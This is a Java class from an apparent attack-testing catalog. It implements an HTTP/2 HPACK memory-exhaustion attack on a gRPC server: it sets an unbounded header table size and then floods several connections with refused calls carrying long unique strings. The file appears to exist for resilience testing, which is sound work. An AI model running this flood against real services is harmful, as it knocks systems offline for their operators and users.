package dev.sluice.attacks.catalog;

import dev.sluice.attacks.wire.Frame;
import dev.sluice.attacks.wire.Grpc;
import dev.sluice.attacks.wire.Http2;
import dev.sluice.attacks.wire.Proto;
import java.io.ByteArrayOutputStream;
import java.io.IOException;

/**
 * Allows the server a table of headers without a bound, and makes calls that are refused with long
 * messages, each another, which the server would keep in the table.
 */
final class LargeHeaderTable extends Attack {
  private static final int HEADER_TABLE_SIZE = 1;
  private static final int CONNECTIONS_AT_ONCE = 4;
  private static final int AT_ONCE = 40;

  /** Each character takes nine bytes in the message of an answer. */
  private static final String LONG = "\u4e16".repeat(230);

  LargeHeaderTable() {
    super("large-header-table", Family.MEMORY, Access.POWERLESS_KEY, Bounds.of(100, 64, 16));
  }

  @Override
  void run(Attempt attempt) throws InterruptedException {
    attempt.repeat(CONNECTIONS_AT_ONCE, () -> flood(attempt));
  }

  private static void flood(Attempt attempt) throws IOException {
    byte[] headers = Grpc.headers(Grpc.ENQUEUE, attempt.key());
    try (Http2 connection = attempt.grpc()) {
      connection.send(Frame.setting(HEADER_TABLE_SIZE, Integer.MAX_VALUE));
      while (attempt.isRunning()) {
        ByteArrayOutputStream calls = new ByteArrayOutputStream();
        for (int i = 0; i < AT_ONCE; i++) {
          int stream = connection.newStream();
          byte[] request = new Proto().text(1, stream + LONG).encode();
          calls.writeBytes(new Frame(Frame.HEADERS, Frame.END_HEADERS, stream, headers).encode());
          calls.writeBytes(
              new Frame(Frame.DATA, Frame.END_STREAM, stream, Grpc.message(request)).encode());
        }
        connection.send(calls.toByteArray());
        for (int ended = 0; ended < AT_ONCE; ) {
          Frame answer = connection.read();
          ended += answer.type() == Frame.HEADERS && answer.has(Frame.END_STREAM) ? 1 : 0;
        }
      }
    }
  }
}
